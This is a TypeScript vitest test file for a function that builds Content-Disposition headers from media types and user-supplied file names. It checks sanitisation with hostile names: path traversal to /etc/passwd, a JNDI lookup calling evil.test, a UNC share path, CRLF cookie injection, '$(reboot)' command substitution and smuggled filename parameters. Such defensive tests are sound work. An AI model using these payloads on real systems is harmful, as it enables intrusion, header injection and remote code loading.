import { parse } from "content-disposition";
import { expect, it } from "vitest";
import { contentDisposition } from "../../domain/disposition.ts";
import { FileName } from "../../domain/file-name.ts";
import { MediaType } from "../../domain/media-type.ts";

it("a PDF is shown in place if that is asked for, and no other executable type is", () => {
  for (const [type, kind] of [
    ["Application/PDF; charset=utf-8", "inline"],
    ["image/svg+xml", "attachment"],
    ["text/html", "attachment"],
  ] as const) {
    const said = contentDisposition(MediaType.make(type), FileName.make("a"), { inlinePdf: true });
    expect(said).toBe(`${kind}; filename="a"`);
  }
});

it.each([
  ["image/png", "a b.png", 'inline; filename="a b.png"'],
  ["image/svg+xml", "a.svg", 'attachment; filename="a.svg"'],
  ["application/pdf", "a.pdf", 'attachment; filename="a.pdf"'],
  ["text/plain", "../a\\b", 'inline; filename=".._a_b"'],
  [
    "text/plain",
    'a"; filename=evil.html',
    "inline; filename=\"a_; filename=evil.html\"; filename*=UTF-8''a%22%3B%20filename%3Devil.html",
  ],
  [
    "text/plain",
    "50%'(é).txt",
    "inline; filename=\"50_'(_).txt\"; filename*=UTF-8''50%25%27%28%C3%A9%29.txt",
  ],
])("the disposition of %s called %s is %s", (type, name, disposition) => {
  expect(contentDisposition(MediaType.make(type), FileName.make(name))).toBe(disposition);
});

it.each([
  'a"b.png',
  "a\\b.png",
  'a\\"b.png',
  "../../etc/passwd.png",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "\uff0e\uff0e\uff0fetc\uff0fpasswd",
  "..",
  "C:\\windows\\a.png",
  "\\\\evil.test\\share\\a.png",
  "a\\\"; filename*=UTF-8''evil.exe",
  "a.png; filename*=UTF-8''evil.exe",
  "a\ufffd.png",
  "a\u200f.png",
  "a.exe ",
  "a.png::$DATA",
  "${jndi:ldap://evil.test/a}",
  "__proto__",
  "..\\..\\boot.ini.png",
  "a/b/c.png",
  "a;b.png",
  "a; filename=evil.html",
  'a"; filename="evil.html',
  "a%22.png",
  "a%0d%0aSet-Cookie: a=b.png",
  "50%.png",
  "%.png",
  "%zz.png",
  "'.png",
  "UTF-8''a.png",
  "a,b.png",
  "a=b.png",
  "a*b?.png",
  "<b>a</b>.png",
  "über.png",
  "漢字.png",
  "😀.png",
  "e\u0301.png",
  "\u00a0.png",
  " leading and trailing ",
  ".png",
  "CON",
  "$(reboot).png",
  `${"a".repeat(251)}.png`,
])(
  "a download has the name that a person gave the file, as an independent parser reads it: %j",
  (name) => {
    const said = contentDisposition(MediaType.make("image/png"), FileName.make(name));
    const { type, parameters } = parse(said);
    expect([type, parameters["filename"]]).toEqual(["inline", name.replace(/[/\\]/g, "_")]);
  },
);
